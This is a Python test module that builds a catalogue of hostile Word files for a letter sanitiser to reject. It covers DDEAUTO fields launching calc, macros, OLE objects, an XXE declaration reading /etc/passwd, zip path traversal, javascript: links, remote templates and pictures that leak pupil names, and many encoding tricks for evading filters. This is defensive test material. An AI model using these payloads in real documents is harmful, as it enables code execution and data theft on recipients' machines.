"""Every disguise that is tried, by its sort and what it is: each builds a Word file that a letter must not be like."""

from __future__ import annotations

import codecs
from collections.abc import Callable, Mapping

from tests.letters.word.disguises import (
    CALC,
    DDE,
    EMF,
    HEAD,
    MICROSOFT,
    OF_PACKAGES,
    SPACES,
    SVG,
    TO,
    WMF,
    WORDML,
    another_name_in_its_head,
    between_the_parts,
    document,
    drawn,
    encoded,
    enormous,
    field,
    letter,
    linked,
    locked,
    one_over_another,
    otherwise,
    paragraph,
    parts,
    picture,
    pictured,
    relation,
    relations,
    run,
    says_less_than_it_is,
    simple,
    two_directories,
    two_ends,
    two_of_one_name,
    with_a_comment,
    with_metadata,
    zipped,
)

DOCUMENT, LINES, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
OBJECT = '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" r:id="rIdO"/></w:object></w:r></w:p>'
CHUNK, TO_CHUNK = '<w:altChunk r:id="rIdC"/>', relation("rIdC", "aFChunk", "chunk.htm")
HTML = {"word/chunk.htm": b"<html><script>alert(1)</script></html>"}
VBA = relation("rIdV", f"{MICROSOFT}/vbaProject", "macros.bin")
LINKED_PICTURE = relation("rIdP", "image", "https://elsewhere.example/{{ pupil.name }}.png", "External")
TWO_TELLINGS = (
    "<w:p><w:r><mc:AlternateContent><mc:Choice Requires='{}'>{}</mc:Choice><mc:Fallback>{}</mc:Fallback>"
    "</mc:AlternateContent></w:r></w:p>"
)
NESTED = field("</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE 68 68 69")
BOUND = (
    "<w:sdt><w:sdtPr><w:dataBinding w:xpath='/x' w:storeItemID='x'/></w:sdtPr>"
    f"<w:sdtContent>{paragraph('bound')}</w:sdtContent></w:sdt>"
)
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
TRACKED = (
    "<w:p><w:ins w:id='1' w:author='A Person'><w:r><w:t>kept</w:t></w:r></w:ins>"
    "<w:del w:id='2' w:author='A Person'><w:r><w:delText>a nightmare</w:delText></w:r></w:del></w:p>"
)
MOVED = "<w:p><w:moveFrom w:id='3'><w:r><w:t>from here</w:t></w:r></w:moveFrom></w:p><w:p><w:moveTo w:id='4'><w:r><w:t>to here</w:t></w:r></w:moveTo></w:p>"
END_TAKEN_OUT = "<w:p><w:pPr><w:rPr><w:del w:id='5'/></w:rPr></w:pPr><w:r><w:t>One </w:t></w:r></w:p><w:p><w:r><w:t>line.</w:t></w:r></w:p>"
COMMENT = (
    "<w:p><w:commentRangeStart w:id='0'/><w:r><w:t>said</w:t></w:r><w:commentRangeEnd w:id='0'/>"
    "<w:r><w:commentReference w:id='0'/></w:r></w:p>"
)
COMMENTS = {
    "word/comments.xml": f"{HEAD}<w:comments {SPACES}><w:comment w:id='0'>{paragraph('a liar')}</w:comment></w:comments>".encode()
}
HIDDEN_STYLE = "<w:style w:type='character' w:styleId='Quiet'><w:rPr><w:vanish/></w:rPr></w:style><w:style w:type='character' w:styleId='Heir'><w:basedOn w:val='Quiet'/></w:style>"


def as_prefix(content: bytes, prefix: bytes) -> bytes:
    """The same part with another prefix for Word's own names."""
    return (
        content.replace(b"<w:", b"<" + prefix + b":")
        .replace(b"</w:", b"</" + prefix + b":")
        .replace(b" w:", b" " + prefix + b":")
        .replace(b"xmlns:w=", b"xmlns:" + prefix + b"=")
    )


def disguised_field(change: Callable[[bytes], bytes]) -> bytes:
    return otherwise(DOCUMENT, change, parts(field(DDE)))


def replaced(*pairs: tuple[bytes, bytes]) -> Callable[[bytes], bytes]:
    def change(content: bytes) -> bytes:
        for before, after in pairs:
            assert before in content, before
            content = content.replace(before, after)
        return content

    return change


DISGUISED: Mapping[str, Mapping[str, Callable[[], bytes]]] = {
    "character entities": {
        "in a code": lambda: disguised_field(replaced((b"DDEAUTO", b"&#68;&#x44;EAUTO"))),
        "in the way of pointing out": lambda: letter(
            drawn('<a:blip r:embed="rIdP"/>'), LINKED_PICTURE.replace("External", "&#69;xternal")
        ),
        "in the sort of a relationship": lambda: letter(
            CHUNK, relation("rIdC", f"{TO}/&#97;FChunk", "chunk.htm"), more=HTML
        ),
    },
    "CDATA": {
        "a whole code": lambda: disguised_field(replaced((DDE.encode(), b"<![CDATA[" + DDE.encode() + b"]]>"))),
        "a piece of a code": lambda: disguised_field(replaced((b"DDEAUTO", b"DD<![CDATA[EAU]]>TO"))),
    },
    "other prefixes": {
        "for a field": lambda: disguised_field(lambda content: as_prefix(content, b"x")),
        "for a foreign file": lambda: otherwise(
            DOCUMENT, lambda content: as_prefix(content, b"word"), parts(CHUNK, TO_CHUNK, more=HTML)
        ),
        "none for relationships": lambda: otherwise(
            LINES,
            replaced(
                (b"<Relationship ", b"<p:Relationship "),
                (b"<Relationships xmlns", b"<p:Relationships xmlns:p"),
                (b"</Rel", b"</p:Rel"),
            ),
            parts(drawn('<a:blip r:embed="rIdP"/>'), LINKED_PICTURE),
        ),
        "a namespace that is bound again": lambda: letter(
            f"<z:altChunk xmlns:z='{SPACES.split(chr(34))[1]}' r:id='rIdC'/>", TO_CHUNK, more=HTML
        ),
    },
    "UTF-16": {
        "told and marked": lambda: disguised_field(lambda text: encoded(text, "utf-16")),
        "told, without a mark": lambda: disguised_field(lambda text: encoded(text, "utf-16-le", "utf-16")),
        "not told": lambda: disguised_field(lambda text: encoded(text, "utf-16-be", "UTF-8")),
        "of relationships": lambda: otherwise(
            LINES, lambda text: encoded(text, "utf-16"), parts(drawn('<a:blip r:embed="rIdP"/>'), LINKED_PICTURE)
        ),
    },
    "UTF-32": {
        "told and marked": lambda: disguised_field(lambda text: encoded(text, "utf-32")),
        "told, without a mark": lambda: disguised_field(lambda text: encoded(text, "utf-32-be", "utf-32")),
        "of what parts are": lambda: otherwise(
            TYPES, lambda text: encoded(text, "utf-32"), parts(CHUNK, TO_CHUNK, more=HTML)
        ),
    },
    "marks at the beginning": {
        "UTF-8 with the mark of UTF-16": lambda: disguised_field(lambda text: codecs.BOM_UTF16_LE + text),
        "two marks": lambda: disguised_field(lambda text: codecs.BOM_UTF8 * 2 + text),
        "UTF-7": lambda: disguised_field(lambda text: encoded(text, "utf-7")),
        "an alphabet that turns letters": lambda: disguised_field(lambda text: encoded(text, "cp037")),
    },
    "single quotes and spaces": {
        "a picture from elsewhere": lambda: letter(
            drawn("<a:blip r:link = 'rIdP'/>"),
            LINKED_PICTURE.replace('"', "'").replace("TargetMode=", "TargetMode\n = "),
        ),
        "a code in one attribute": lambda: letter(
            simple(DDE).replace('w:instr="', "w:instr = '").replace('"><w:r>', "'><w:r>").replace("&quot;", "")
        ),
    },
    "files put in": {
        "altChunk": lambda: letter(CHUNK, TO_CHUNK, more=HTML),
        "altChunk without a part": lambda: letter(CHUNK),
        "another document": lambda: letter(
            "<w:p><w:subDoc r:id='rIdS'/></w:p>", relation("rIdS", "subDocument", "other.docx", "External")
        ),
        "a document in the zip": lambda: letter(
            lines=relation("rIdS", "package", "embeddings/a.docx"), more={"word/embeddings/a.docx": letter()}
        ),
        "a zip that nothing leads to": lambda: letter(more={"word/media/more.png": letter()}),
    },
    "macros": {
        "as Word writes them": lambda: letter(lines=VBA, more={"word/vbaProject.bin": CALC}),
        "under another name": lambda: letter(lines=VBA, more={"word/macros.bin": CALC}),
        "under another name and sort": lambda: letter(
            lines=relation("rIdV", f"{MICROSOFT}/theme", "theme1.xml"),
            more={"word/theme1.xml": CALC},
            said={"/word/theme1.xml": "application/vnd.ms-office.vbaProject"},
        ),
        "by the sort alone": lambda: letter(
            more={"word/a.xml": CALC}, said={"/word/a.xml": "Application/VND.ms-office.VBAProject"}
        ),
        "a document with macros": lambda: letter(
            said={"/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}
        ),
        "keys that run them": lambda: letter(
            lines=relation("rIdK", f"{MICROSOFT}/keyMapCustomizations", "customizations.xml"),
            more={"word/customizations.xml": f"{HEAD}<wne:tcg xmlns:wne='{MICROSOFT}'/>".encode()},
        ),
    },
    "declarations": {
        "in the body": lambda: otherwise(DOCUMENT, replaced((b"<w:document", LAUGHS.encode() + b"<w:document"))),
        "in the properties": lambda: otherwise(
            "docProps/core.xml", replaced((b"<cp:core", LAUGHS.encode() + b"<cp:core"))
        ),
        "behind a comment": lambda: otherwise(
            DOCUMENT,
            replaced(
                (b"<w:document", b"<!-- x --><?y?>" + b'<!DOCTYPE x SYSTEM "file:///etc/passwd">' + b"<w:document")
            ),
        ),
        "of relationships": lambda: otherwise(
            LINES, replaced((b"<Relationships", LAUGHS.encode() + b"<Relationships"))
        ),
        "of what parts are": lambda: otherwise(TYPES, replaced((b"<Types", b"<!DOCTYPE Types><Types"))),
        "in UTF-16": lambda: otherwise(
            DOCUMENT, lambda text: encoded(text.replace(b"<w:document", LAUGHS.encode() + b"<w:document"), "utf-16")
        ),
    },
    "names of parts": {
        "up": lambda: letter(more={"word/../../evil.xml": b"x"}),
        "from the root": lambda: letter(more={"/etc/evil.xml": b"x"}),
        "the other way round": lambda: zipped(parts()).replace(b"word/settings.xml", b"word\\settings.xml"),
        "a drive": lambda: letter(more={"C:/evil.xml": b"x"}),
        "letters that look alike": lambda: letter(more={"word/sty\u0142es.xml": b"x"}),
        "written with per cent": lambda: letter(more={"word/%2e%2e/evil.xml": b"x"}),
        "a point at the end": lambda: letter(more={"word/styles.xml.": b"x"}),
        "nothing between two lines": lambda: letter(more={"word//styles.xml": b"x"}),
        "pointing up": lambda: letter(lines=relation("rIdN", "numbering", "../../numbering.xml")),
        "pointing to a share": lambda: letter(lines=relation("rIdN", "numbering", "\\\\server\\numbering.xml")),
        "pointing to an address": lambda: letter(
            lines=relation("rIdN", "numbering", "https://elsewhere.example/n.xml")
        ),
    },
    "one name twice": {
        "the body": lambda: two_of_one_name("word/document.xml", document(field(DDE))),
        "in large letters": lambda: two_of_one_name("word/document.xml", document(field(DDE)), "WORD/Document.xml"),
        "of a sort": lambda: otherwise(
            TYPES, replaced((b"</Types>", b'<Override PartName="/WORD/document.xml" ContentType="text/html"/></Types>'))
        ),
        "of a relationship": lambda: letter(lines=relation("rIdHeader", "image", "media/image1.png")),
    },
    "objects": {
        "a sheet inside": lambda: letter(
            OBJECT,
            relation("rIdO", "oleObject", "embeddings/oleObject1.bin"),
            more={"word/embeddings/oleObject1.bin": CALC},
        ),
        "under another name": lambda: letter(
            OBJECT, relation("rIdO", "oleObject", "media/a.png"), more={"word/media/a.png": CALC}
        ),
        "a linked one": lambda: letter(OBJECT, relation("rIdO", "oleObject", "file:///c:/secrets.xlsx", "External")),
        "only the element": lambda: letter(OBJECT),
        "in a header": lambda: letter(header=OBJECT),
        "in the older way of drawing": lambda: letter(
            "<w:p><w:r><w:pict><v:shape/><o:OLEObject Type='Link' ProgID='Package' r:id='rIdO'/></w:pict></w:r></w:p>"
        ),
        "within what is not known": lambda: letter(f"<w14:thing>{OBJECT}</w14:thing>"),
    },
    "controls": {
        "of a program": lambda: letter(
            "<w:p><w:r><w:control r:id='rIdX' w:name='x'/></w:r></w:p>",
            relation("rIdX", "control", "x.xml"),
            more={"word/x.xml": b"<x/>"},
        ),
        "its part alone": lambda: letter(more={"word/activeX/activeX1.xml": b"<x/>"}),
    },
    "pictures from elsewhere": {
        "linked": lambda: letter(drawn('<a:blip r:link="rIdP"/>'), LINKED_PICTURE),
        "linked beside the embedded": lambda: letter(
            drawn('<a:blip r:embed="rIdE" r:link="rIdP"/>'),
            relation("rIdE", "image", "media/image1.png")
            + relation("rIdP", "hyperlink", "https://elsewhere.example/a.png", "External"),
            more={"word/media/image1.png": picture()},
        ),
        "embedded from outside": lambda: letter(drawn('<a:blip r:embed="rIdP"/>'), LINKED_PICTURE),
        "in the older way of drawing": lambda: letter(
            "<w:p><w:r><w:pict><v:shape><v:imagedata src='https://elsewhere.example/a.png'/></v:shape></w:pict></w:r></w:p>"
        ),
        "by an address of Office's": lambda: letter(
            "<w:p><w:r><w:pict><v:shape><v:imagedata o:href='https://elsewhere.example/a.png'/></v:shape></w:pict></w:r></w:p>"
        ),
        "as a bullet": lambda: letter(
            lines=relation("rIdN", "numbering", "numbering.xml"),
            more={
                "word/numbering.xml": f"{HEAD}<w:numbering {SPACES}><w:numPicBullet w:numPicBulletId='0'><w:pict><v:shape><v:imagedata r:href='rIdP'/></v:shape></w:pict></w:numPicBullet></w:numbering>".encode(),
                "word/_rels/numbering.xml.rels": relations(LINKED_PICTURE),
            },
            said={"/word/numbering.xml": f"{WORDML}.numbering+xml"},
        ),
        "as the ground of a page": lambda: letter(
            "<w:background w:color='FFFFFF'><v:background><v:fill r:id='rIdP'/></v:background></w:background>",
            LINKED_PICTURE,
        ),
    },
    "fields that run": {
        "DDE": lambda: letter(field("DDE Excel a.xlsx A1")),
        "DDEAUTO in pieces": lambda: letter(field("D", "DEA", "UTO c:\\\\windows", " calc")),
        "in small letters": lambda: letter(field("ddeauto x y")),
        "in one attribute": lambda: letter(simple("DDEAUTO x y")),
        "in plain words within a code": lambda: letter(
            field("DDE</w:instrText></w:r><w:r><w:t>AUTO x y</w:t></w:r><w:r><w:instrText>")
        ),
        "a field in a code": lambda: letter(NESTED),
        "a simple field in a code": lambda: letter(
            field("QUOTE </w:instrText></w:r><w:fldSimple w:instr=' PAGE '/><w:r><w:instrText>")
        ),
        "hidden": lambda: letter(
            field(DDE).replace("<w:r><w:instrText>", "<w:r><w:rPr><w:vanish/></w:rPr><w:instrText>")
        ),
        "in a header": lambda: letter(header=field(DDE)),
        "in a footnote": lambda: letter(
            lines=relation("rIdF", "footnotes", "footnotes.xml"),
            more={
                "word/footnotes.xml": f"{HEAD}<w:footnotes {SPACES}><w:footnote w:id='2'>{field(DDE)}</w:footnote></w:footnotes>".encode()
            },
            said={"/word/footnotes.xml": f"{WORDML}.footnotes+xml"},
        ),
        "without an end": lambda: letter(
            "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>"
        ),
        "a code without a field": lambda: letter("<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>"),
        "among the words of a kept field": lambda: letter(
            field("PAGE").replace("<w:t>", "<w:instrText>DDEAUTO x</w:instrText><w:t>", 1)
        ),
        "inside a mark of a kept field": lambda: letter(
            field("PAGE").replace(
                '<w:fldChar w:fldCharType="separate"/>',
                '<w:fldChar w:fldCharType="separate"><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:fldChar>',
            )
        ),
        "inside the code of a kept field": lambda: letter(
            field("PAGE").replace("</w:instrText>", "<w:instrText>DDEAUTO x</w:instrText></w:instrText>", 1)
        ),
        "in a tracked insertion": lambda: letter(
            field(DDE).replace("<w:p>", "<w:p><w:ins w:id='1'>").replace("</w:p>", "</w:ins></w:p>")
        ),
        "in the other telling": lambda: letter(
            TWO_TELLINGS.format(
                "w14",
                "<w:t>x</w:t>",
                "</mc:Fallback></mc:AlternateContent></w:r></w:p>"
                + field(DDE)
                + "<w:p><w:r><mc:AlternateContent><mc:Fallback>",
            )
        ),
        "RTD": lambda: letter(field("RTD prog server topic")),
        "MACROBUTTON": lambda: letter(field("MACROBUTTON Run press")),
        "letters of another width": lambda: letter(field("\uff24\uff24\uff25\uff21\uff35\uff34\uff2f x y")),
    },
    "fields that fetch": {
        "INCLUDEPICTURE": lambda: letter(field('INCLUDEPICTURE "https://elsewhere.example/{{ pupil.name }}.png" \\d')),
        "INCLUDETEXT": lambda: letter(simple("INCLUDETEXT &quot;c:\\\\secrets.docx&quot;")),
        "IMPORT": lambda: letter(field("IMPORT a.png")),
        "LINK": lambda: letter(field("LINK Excel.Sheet.8 c:\\\\a.xls")),
        "DATABASE": lambda: letter(field("DATABASE \\d c:\\\\a.mdb")),
        "AUTOTEXT": lambda: letter(field("AUTOTEXT entry")),
        "RD": lambda: letter(field("RD c:\\\\a.docx")),
        "HYPERLINK to a file": lambda: letter(field('HYPERLINK "file:///c:/a.exe" \\o "x"')),
        "a page number that goes on": lambda: letter(field("PAGE \\* MERGEFORMAT \\* DDEAUTO x")),
    },
    "templates attached": {
        "in the settings": lambda: letter(
            settings="<w:attachedTemplate r:id='rIdT'/>",
            more={
                "word/_rels/settings.xml.rels": relations(
                    relation("rIdT", "attachedTemplate", "https://elsewhere.example/t.dotm", "External")
                )
            },
        ),
        "from the body": lambda: letter(lines=relation("rIdT", "attachedTemplate", "\\\\server\\t.dotm", "External")),
    },
    "bound to data": {
        "a box": lambda: letter(BOUND),
        "data of its own": lambda: letter(
            lines=relation("rIdX", "customXml", "../customXml/item1.xml"),
            more={"customXml/item1.xml": b"<secret>Sam</secret>"},
        ),
    },
    "frames": {
        "a set of them": lambda: letter(
            lines=relation("rIdW", "webSettings", "webSettings.xml")
            + relation("rIdF", "frame", "https://elsewhere.example/", "External"),
            more={"word/webSettings.xml": f"{HEAD}<w:webSettings {SPACES}><w:frameset/></w:webSettings>".encode()},
        ),
        "within the settings for web pages": lambda: letter(
            lines=relation("rIdW", "webSettings", "webSettings.xml"),
            more={
                "word/webSettings.xml": f"{HEAD}<w:webSettings {SPACES}><w:frameset><w:frame><w:sourceFileName r:id='rIdF'/></w:frame></w:frameset></w:webSettings>".encode(),
                "word/_rels/webSettings.xml.rels": relations(
                    relation("rIdF", "frame", "https://elsewhere.example/", "External")
                ),
            },
        ),
    },
    "themes and fonts from elsewhere": {
        "a theme": lambda: letter(lines=relation("rIdT", "theme", "https://elsewhere.example/theme.xml", "External")),
        "a list of fonts": lambda: letter(lines=relation("rIdF", "fontTable", "\\\\server\\fonts.xml", "External")),
        "a font inside": lambda: letter(
            lines=relation("rIdF", "fontTable", "fontTable.xml"),
            more={
                "word/fontTable.xml": f"{HEAD}<w:fonts {SPACES}><w:font w:name='x'><w:embedRegular r:id='rId1'/></w:font></w:fonts>".encode(),
                "word/_rels/fontTable.xml.rels": relations(
                    relation("rId1", "font", "https://elsewhere.example/a.odttf", "External")
                ),
            },
            said={"/word/fontTable.xml": f"{WORDML}.fontTable+xml"},
        ),
    },
    "links": {
        "to a file": lambda: linked("file:///etc/passwd"),
        "to a script": lambda: linked("javascript:alert(1)"),
        "to a script, in disguise": lambda: linked(" &#9;JavaScript:alert(1)"),
        "to a share": lambda: linked("\\\\server\\share\\a.docx"),
        "to a program of Office": lambda: linked("ms-word:ofe|u|https://elsewhere.example/a.docx"),
        "with a tag": lambda: linked("https://elsewhere.example/?child={{ pupil.name }}"),
        "with a name before the site": lambda: linked("https://oakfield.example@elsewhere.example/"),
        "that says it is inside": lambda: linked("https://elsewhere.example/", "Internal"),
        "of a picture": lambda: letter(
            drawn("<a:blip/>")
            .replace("<a:graphic>", "<wp:cNvGraphicFramePr/><a:graphic>")
            .replace("/><a:graphic", "/><a:graphic")
            .replace(
                '<pic:cNvPr id="1" name="p.png"/>',
                '<pic:cNvPr id="1" name="p.png"><a:hlinkClick r:id="rIdL"/></pic:cNvPr>',
            ),
            relation("rIdL", "hyperlink", "file:///c:/a.exe", "External"),
        ),
    },
    "mail merge": {
        "its list of people": lambda: letter(
            settings="<w:mailMerge><w:dataSource r:id='rIdM'/></w:mailMerge>",
            more={
                "word/_rels/settings.xml.rels": relations(
                    relation("rIdM", "mailMergeSource", "file:///c:/children.xlsx", "External")
                )
            },
        ),
        "a rule": lambda: letter(field('IF "a" = "b" "yes" "no"')),
        "a field": lambda: letter(simple("MERGEFIELD First_Name")),
    },
    "tricks of the zip": {
        "locked": locked,
        "something before it": lambda: b"MZ" + letter(),
        "something behind it": lambda: letter() + b"calc",
        "two directories": two_directories,
        "two ends": two_ends,
        "a comment": with_a_comment,
        "another name in the head": another_name_in_its_head,
        "bytes between the parts": between_the_parts,
        "parts over each other": one_over_another,
        "less than it is": says_less_than_it_is,
        "enormous": enormous,
        "a locked or an old document": lambda: CALC,
    },
    "relationships of relationships": {
        "that point out": lambda: letter(
            more={
                "word/_rels/_rels/document.xml.rels.rels": relations(
                    relation("rId1", "image", "https://elsewhere.example/", "External")
                )
            }
        ),
        "a part that is both": lambda: letter(
            drawn('<a:blip r:embed="rIdHeader"/>'),
        ),
        "a sort that is not known": lambda: letter(
            lines=relation("rIdU", "https://elsewhere.example/relation", "media/a.png"), more={"word/media/a.png": CALC}
        ),
        "out of the whole file": lambda: letter(
            root=relation("rId9", "https://elsewhere.example/ui/extensibility", "customUI/ui.xml"),
            more={"customUI/ui.xml": b"<x/>"},
        ),
        "two bodies": lambda: letter(root=relation("rId9", "officeDocument", "word/header1.xml")),
        "a header in a header": lambda: letter(
            header="<w:headerReference r:id='rIdH'/>",
            more={"word/_rels/header1.xml.rels": relations(relation("rIdH", "header", "header1.xml"))},
        ),
        "a body of another sort": lambda: letter(said={"/word/document.xml": "text/html"}),
    },
    "pictures": {
        "a drawing with a script": lambda: pictured(SVG),
        "a drawing beside the picture": lambda: letter(
            drawn(
                '<a:blip r:embed="rIdE"><a:extLst><a:ext uri="x"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdS"/></a:ext></a:extLst></a:blip>'
            ),
            relation("rIdE", "image", "media/image1.png") + relation("rIdS", "image", "media/image2.svg"),
            more={"word/media/image1.png": picture(), "word/media/image2.svg": SVG},
        ),
        "EMF": lambda: pictured(EMF, "image1.emf"),
        "WMF as PNG": lambda: pictured(WMF),
        "with what is known of it": lambda: pictured(with_metadata()),
        "a chart": lambda: letter(
            drawn(uri="http://schemas.openxmlformats.org/drawingml/2006/chart"),
            relation("rIdC", "chart", "charts/chart1.xml"),
            more={"word/charts/chart1.xml": b"<x/>"},
        ),
        "with a tag in its description": lambda: letter(drawn("<a:blip/>", "{{ pupil.name }}")),
    },
    "other parts": {
        "building blocks": lambda: letter(
            lines=relation("rIdG", "glossaryDocument", "glossary/document.xml"),
            more={"word/glossary/document.xml": document(field(DDE))},
        ),
        "settings of a printer": lambda: letter(
            "<w:p><w:pPr><w:sectPr><w:printerSettings r:id='rIdP'/></w:sectPr></w:pPr></w:p>",
            relation("rIdP", "printerSettings", "printerSettings1.bin"),
            more={"word/printerSettings1.bin": CALC},
        ),
        "a signature": lambda: letter(
            root=relation("rId9", f"{OF_PACKAGES}/digital-signature/origin", "_xmlsignatures/origin.sigs"),
            more={"_xmlsignatures/origin.sigs": b"x"},
        ),
        "a template": lambda: letter(said={"/word/document.xml": f"{WORDML}.template.main+xml"}),
        "the strict sort": lambda: otherwise(
            "_rels/.rels",
            replaced(
                (
                    TO.encode() + b"/officeDocument",
                    b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
                )
            ),
        ),
        "a tag in its title": lambda: letter(properties="<dc:title>{{ pupil.name }}</dc:title>"),
    },
    "tracked changes": {
        "in words": lambda: letter(TRACKED),
        "moved": lambda: letter(MOVED),
        "the end of a paragraph": lambda: letter(END_TAKEN_OUT),
        "in a header": lambda: letter(header=TRACKED),
    },
    "comments": {
        "one": lambda: letter(COMMENT, relation("rIdC", "comments", "comments.xml"), more=COMMENTS),
    },
    "hidden words": {
        "hidden": lambda: letter(run("a nuisance", "<w:vanish/>")),
        "by a style": lambda: letter(run("a nuisance", "<w:rStyle w:val='Heir'/>"), styles=HIDDEN_STYLE),
        "white": lambda: letter(run("a nuisance", "<w:color w:val='FEFEFE'/>")),
        "tiny": lambda: letter(run("a nuisance", "<w:sz w:val='2'/>")),
        "a hidden row": lambda: letter(
            f"<w:tbl><w:tr><w:trPr><w:hidden/></w:trPr><w:tc>{paragraph('a nuisance')}</w:tc></w:tr><w:tr><w:tc>{paragraph('seen')}</w:tc></w:tr></w:tbl>"
        ),
        "in a style of a table": lambda: letter(
            f"<w:tbl><w:tblPr><w:tblStyle w:val='Pale'/></w:tblPr><w:tr><w:tc>{paragraph('a nuisance')}</w:tc></w:tr></w:tbl>",
            styles="<w:style w:type='table' w:styleId='Pale'><w:rPr><w:color w:val='FFFFFF'/></w:rPr></w:style>",
        ),
        "in a row too low": lambda: letter(
            f"<w:tbl><w:tr><w:trPr><w:trHeight w:val='2' w:hRule='exact'/></w:trPr><w:tc>{paragraph('a nuisance')}</w:tc></w:tr></w:tbl>"
        ),
        "in a line too low": lambda: letter(
            run("a nuisance", style="<w:pPr><w:spacing w:line='2' w:lineRule='exact'/></w:pPr>")
        ),
        "letters over each other": lambda: letter(run("a nuisance", "<w:spacing w:val='-400'/>")),
        "letters without width": lambda: letter(run("a nuisance", "<w:w w:val='1'/>")),
        "in a shape nobody sees": lambda: letter(
            "<w:p><w:r><w:pict><v:shape style='visibility:hidden;width:9pt'><v:textbox><w:txbxContent>"
            f"{paragraph('a nuisance')}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
        ),
        "a drawing nobody sees": lambda: letter(drawn("<a:blip/>").replace("<wp:docPr", "<wp:docPr hidden='1'")),
        "in what is not known": lambda: letter(f"<q:note xmlns:q='urn:example:q'>{paragraph('a nuisance')}</q:note>"),
    },
    "days that renew themselves": {
        "DATE": lambda: letter(field('DATE \\@ "d MMMM yyyy"')),
        "SAVEDATE": lambda: letter(simple("SAVEDATE")),
        "TIME": lambda: letter(field('TIME \\@ "HH:mm"')),
        "of a calendar": lambda: letter("<w:p><w:r><w:dayLong/></w:r></w:p>"),
    },
}
